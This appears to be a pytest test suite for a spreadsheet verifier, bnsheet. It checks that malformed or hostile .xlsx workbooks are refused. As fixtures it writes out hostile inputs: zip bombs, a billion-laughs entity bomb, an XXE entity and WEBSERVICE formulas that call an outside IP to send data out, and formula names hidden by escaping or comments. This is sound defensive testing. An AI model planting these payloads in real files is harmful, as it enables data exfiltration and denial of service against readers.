"""Hostile and broken workbooks given to verify: each refused with one line naming what and where,
exit status 2, in bounded time, and the file left exactly as it was."""

from __future__ import annotations

import hashlib
import re
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

import bnsheet
from bnsheet import cli
from bnsheet.reading import vetting

Edit = Callable[[dict[str, bytes]], None]


def rezip(source: Path, edit: Edit, name: str = "hostile.xlsx") -> Path:
    """A copy of ``source`` whose parts (name → bytes) were changed by ``edit``."""
    with zipfile.ZipFile(source) as package:
        parts = {info.filename: package.read(info) for info in package.infolist()}
    edit(parts)
    target = source.with_name(name)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for part, data in parts.items():
            package.writestr(part, data)
    return target


def sheet_part(parts: dict[str, bytes], sheet: str) -> str:
    """The part that holds ``sheet`` (bnsheet writes params first, then the blocks in order)."""
    names = re.findall(rb'<sheet name="([^"]+)"', parts["xl/workbook.xml"])
    return f"xl/worksheets/sheet{names.index(sheet.encode()) + 1}.xml"


def set_formula(sheet: str, cell: str, formula: bytes) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, sheet)
        parts[part], count = re.subn(
            rb'(<c r="' + cell.encode() + rb'"[^>]*><f>)[^<]*(</f>)', lambda m: m[1] + formula + m[2], parts[part]
        )
        assert count == 1

    return edit


def run_verify(path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """``bnsheet verify PATH`` in this process; (exit status, stderr). The file must not change."""
    before = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else None
    status = cli.main(["verify", str(path)])
    err = capsys.readouterr().err
    after = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else None
    assert before == after, "verify changed the file"
    return status, err


def assert_refused(path: Path, capsys: pytest.CaptureFixture[str], *fragments: str) -> str:
    status, err = run_verify(path, capsys)
    assert status == 2, err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
    assert err.startswith(f"bnsheet: {path}: ")
    for fragment in fragments:
        assert fragment in err, err
    return err


def test_our_own_workbook_passes_the_vetting(built, capsys):
    vetting.vet(built)
    assert run_verify(built, capsys)[0] == 0


def test_not_a_zip(tmp_path, capsys):
    path = tmp_path / "notes.xlsx"
    path.write_text("x,gamma\n1,2\n")
    assert_refused(path, capsys, "not an .xlsx workbook")


def test_a_zip_without_a_workbook(tmp_path, capsys):
    path = tmp_path / "other.xlsx"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("readme.txt", "hello")
    assert_refused(path, capsys, "not an .xlsx workbook", "no xl/workbook.xml")


@pytest.mark.parametrize("keep", [0.3, 0.9, 0.999])
def test_a_truncated_zip(built, capsys, keep):
    data = built.read_bytes()
    path = built.with_name("truncated.xlsx")
    path.write_bytes(data[: int(len(data) * keep)])
    assert_refused(path, capsys, "not an .xlsx workbook")


def test_a_corrupted_part_fails_its_crc(built, capsys):
    with zipfile.ZipFile(built) as package:
        info = package.getinfo("xl/worksheets/sheet10.xml")
    data = bytearray(built.read_bytes())
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start + info.compress_size // 2] ^= 0xFF
    path = built.with_name("corrupt.xlsx")
    path.write_bytes(bytes(data))
    assert_refused(path, capsys, "not an .xlsx workbook")


def _declare_size(path: Path, part: str, size: int) -> None:
    """Rewrite the uncompressed size that the zip declares for ``part`` (both headers)."""
    data = bytearray(path.read_bytes())
    name = part.encode()
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        while at >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                struct.pack_into("<I", data, at + size_at, size)
            at = data.find(signature, at + 4)
    path.write_bytes(bytes(data))


def test_a_zip_bomb_by_declared_size(built, capsys):
    path = rezip(built, lambda parts: None)
    _declare_size(path, "xl/styles.xml", 0xFFFF_FFF0)
    assert_refused(path, capsys, "unpacks to", "zip bomb")


def test_a_part_that_lies_about_its_size_is_not_read_beyond_it(built, capsys):
    path = rezip(built, lambda parts: None)
    _declare_size(path, "xl/worksheets/sheet10.xml", 100)
    assert_refused(path, capsys, "not an .xlsx workbook")


def test_a_zip_bomb_by_compression_ratio(built, capsys):
    def edit(parts: dict[str, bytes]) -> None:
        parts["xl/media/padding.bin"] = bytes(64 << 20)

    assert_refused(rezip(built, edit), capsys, "xl/media/padding.bin is compressed", "zip bomb")


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>'
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE w [<!ENTITY leak SYSTEM "http://203.0.113.1/leak">]>\n'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&leak;</workbook>'
)


@pytest.mark.parametrize(
    "part, data",
    [("xl/sharedStrings.xml", BILLION_LAUGHS), ("xl/workbook.xml", EXTERNAL_ENTITY)],
    ids=["billion-laughs", "external-entity"],
)
def test_doctype_and_entities_are_refused(built, capsys, part, data):
    def edit(parts: dict[str, bytes]) -> None:
        parts[part] = data

    assert_refused(rezip(built, edit), capsys, f"{part} declares a DOCTYPE")


def test_the_reader_refuses_a_doctype_even_without_the_vetting(built):
    def edit(parts: dict[str, bytes]) -> None:
        parts["xl/sharedStrings.xml"] = BILLION_LAUGHS

    from bnsheet.reading.xlsx import XlsxFile

    with XlsxFile(rezip(built, edit)) as book, pytest.raises(bnsheet.WorkbookError, match="sharedStrings"):
        book._shared_strings()


def test_utf16_xml_is_refused(built, capsys):
    def edit(parts: dict[str, bytes]) -> None:
        parts["xl/styles.xml"] = parts["xl/styles.xml"].decode().replace("UTF-8", "UTF-16").encode("utf-16")

    assert_refused(rezip(built, edit), capsys, "xl/styles.xml is not UTF-8")


def test_macros_are_refused_and_never_run(built, capsys):
    def edit(parts: dict[str, bytes]) -> None:
        parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really a VBA project"

    assert_refused(rezip(built, edit, "macros.xlsm"), capsys, "VBA macros (xl/vbaProject.bin)")


def test_a_macro_enabled_content_type_is_refused(built, capsys):
    def edit(parts: dict[str, bytes]) -> None:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
        )

    assert_refused(rezip(built, edit, "macros.xlsm"), capsys, "macro-enabled workbook")


@pytest.mark.parametrize(
    "part, what",
    [
        ("xl/externalLinks/externalLink1.xml", "links to other workbooks"),
        ("xl/connections.xml", "data connections"),
        ("xl/macrosheets/sheet1.xml", "Excel 4 macro sheets"),
    ],
)
def test_parts_that_reach_outside_or_run_code(built, capsys, part, what):
    def edit(parts: dict[str, bytes]) -> None:
        parts[part] = b'<?xml version="1.0"?><x/>'

    assert_refused(rezip(built, edit), capsys, what, part)


def test_an_external_relationship_is_refused(built, capsys):
    def edit(parts: dict[str, bytes]) -> None:
        rels = "xl/_rels/workbook.xml.rels"
        parts[rels] = parts[rels].replace(
            b"</Relationships>",
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'oleObject" Target="file://203.0.113.1/share/x.bin" TargetMode="External"/></Relationships>',
        )

    assert_refused(rezip(built, edit), capsys, "points outside the file (file://203.0.113.1/share/x.bin)")


@pytest.mark.parametrize(
    "formula, what",
    [
        (b"[1]Sheet1!A1*2", "refers outside the workbook ([1])"),
        (b"&apos;[1]Other sheet&apos;!A1+1", "refers outside the workbook ([1])"),
        (b"'C:\\data\\[other.xlsx]Sheet1'!A1", "refers outside the workbook ([other.xlsx])"),
        (b'WEBSERVICE("http://203.0.113.1/x")', "calls WEBSERVICE"),
        (b'_xlfn.WEBSERVICE("http://203.0.113.1/x")', "calls WEBSERVICE"),
        (b'webservice("http://203.0.113.1/x")', "calls WEBSERVICE"),
        (b'&#87;EBSERVICE("http://203.0.113.1/x")', "calls WEBSERVICE"),
        (b'HYPERLINK("http://203.0.113.1/x","click")', "calls HYPERLINK"),
        (b'INDIRECT("x!C8")', "calls INDIRECT"),
        (b'SUM(INDIRECT ("x!C8"))', "calls INDIRECT"),
        (b"INDIRECT" + b" " * 100 + b'("x!C8")', "calls INDIRECT"),
        (b'IND<!-- hidden -->IRECT("x!C8")', "calls INDIRECT"),
        (b'IND<![CDATA[IRECT("x!C8")]]>', "calls INDIRECT"),
        (b'_xlfn.FILTERXML("&lt;a/&gt;","//a")', "calls FILTERXML"),
        (b'RTD("server",,"topic")', "calls RTD"),
        (b'CALL("kernel32","Beep","JJJ",440,100)', "calls CALL"),
    ],
)
def test_formulas_that_reach_outside_are_refused_naming_the_cell(built, capsys, formula, what):
    path = rezip(built, set_formula("xmu", "D9", formula))
    assert_refused(path, capsys, what, "('xmu'!D9)")


@pytest.mark.parametrize(
    "formula", [b'&#87;EBSERVICE("http://203.0.113.1/x")', b'1+IND&#x49;RECT("x!C8")', b'SUM(1)*&#73;NDIRECT("x!C8")']
)
def test_an_escaped_name_is_found_among_labels_escaped_as_openpyxl_writes_them(built, capsys, formula):
    """openpyxl writes non-ASCII labels as character references (&#9664; graph) in every sheet; a
    name spelled with one in a formula of the same sheet is still found."""

    def edit(parts: dict[str, bytes]) -> None:
        set_formula("xmu", "D9", formula)(parts)
        part = sheet_part(parts, "xmu")
        parts[part] = parts[part].replace(
            b"<sheetData>", b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&#9664; graph</t></is></c></row>', 1
        )

    assert_refused(rezip(built, edit), capsys, "reaches outside", "('xmu'!D9)")


def test_two_parts_of_the_same_name_are_refused(built, capsys):
    path = rezip(built, lambda parts: None)
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as package:
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate it is asked to write
        package.writestr("xl/worksheets/sheet2.xml", b"<worksheet/>")
    assert_refused(path, capsys, "two parts of the same name")


def test_a_defined_name_that_reaches_outside_is_refused(built, capsys):
    def edit(parts: dict[str, bytes]) -> None:
        parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
            b"</definedNames>", b'<definedName name="bn_evil">INDIRECT("x!C7")</definedName></definedNames>'
        )

    assert_refused(rezip(built, edit), capsys, "calls INDIRECT", "(defined name bn_evil)")


def test_such_names_in_plain_text_or_string_literals_are_harmless(built, capsys):
    def edit(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, "xmu")
        parts[part] = parts[part].replace(
            b"</sheetData>",
            b'<row r="40"><c r="B40" t="inlineStr"><is><t>see INDIRECT(x) and [1] in the notes</t></is></c>'
            b'<c r="C40"><f>LEN("WEBSERVICE(")</f></c></row></sheetData>',
        )

    status, err = run_verify(rezip(built, edit), capsys)
    assert status == 0, err


@pytest.mark.apps()  # writes and vets a sheet of two million cells
def test_a_sheet_with_millions_of_cells_is_refused_up_front(built, capsys):
    def edit(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, "out")
        cells = b"".join(b'<row r="%d"><c r="A%d"/><c r="B%d"/></row>' % (r, r, r) for r in range(100, 1_100_100))
        parts[part] = parts[part].replace(b"</sheetData>", cells + b"</sheetData>")

    assert_refused(rezip(built, edit), capsys, f"sheet 'out' has more than {vetting.MAX_SHEET_CELLS} cells")


def test_a_circular_reference_is_reported_as_an_error_not_a_hang(built, capsys):
    def edit(parts: dict[str, bytes]) -> None:
        for cell, column in (("C7", b"C"), ("D7", b"D"), ("E7", b"E")):
            set_formula("mean", cell, b"AVERAGE('x'!%s$7:%s$10)+'dx'!%s7*0" % (column, column, column))(parts)

    path = rezip(built, edit)
    assert cli.main(["verify", str(path), "--engine", "formualizer"]) == 1
    out = capsys.readouterr().out
    assert re.search(r"mean: error at 'mean'!C7: .*#CIRCULAR!", out), out


def test_grade_vets_each_file_too(built, capsys):
    path = rezip(built, set_formula("dx", "C8", b'WEBSERVICE("http://203.0.113.1/x")'))
    assert cli.main(["grade", str(path)]) == 2
    err = capsys.readouterr().err
    what = "a formula calls WEBSERVICE, which reaches outside the workbook; refused ('dx'!C8)"
    assert err == f"bnsheet: {path}: {what}\n"


def test_a_folder_and_a_missing_file(tmp_path, capsys):
    assert_refused(tmp_path, capsys, "is a folder")
    assert_refused(tmp_path / "absent.xlsx", capsys, "no such file")


def test_cells_are_counted_over_the_whole_workbook(built, capsys, monkeypatch):
    with zipfile.ZipFile(built) as package:
        biggest = max(package.read(n).count(b"<c ") for n in package.namelist() if n.startswith("xl/worksheets/"))
    monkeypatch.setattr(vetting, "MAX_WORKBOOK_CELLS", 2 * biggest)  # more than any one sheet holds
    assert_refused(built, capsys, f"more than {2 * biggest} cells in all")


_WATCHING: list[str] = []


def _watch(event: str, args: tuple[object, ...]) -> None:
    if _WATCHING and (event.startswith("socket.") or event in ("urllib.Request", "http.client.connect")):
        _WATCHING.append(event)


sys.addaudithook(_watch)  # audit hooks cannot be removed; this one records only while a test watches


@pytest.mark.parametrize("engine", ["formualizer", "ironcalc", pytest.param("formulas", marks=pytest.mark.apps())])
def test_verify_and_grade_open_no_socket(built, capsys, engine):
    hostile = rezip(built, set_formula("xmu", "D9", b'WEBSERVICE("http://203.0.113.1/x")'))
    _WATCHING[:] = ["watching"]
    try:
        assert cli.main(["verify", str(built), "--engine", engine]) == 0
        assert cli.main(["grade", str(built), "--engine", engine]) == 0
        assert cli.main(["verify", str(hostile), "--engine", engine]) == 2
    finally:
        events, _WATCHING[:] = _WATCHING[1:], []
    capsys.readouterr()
    assert events == []
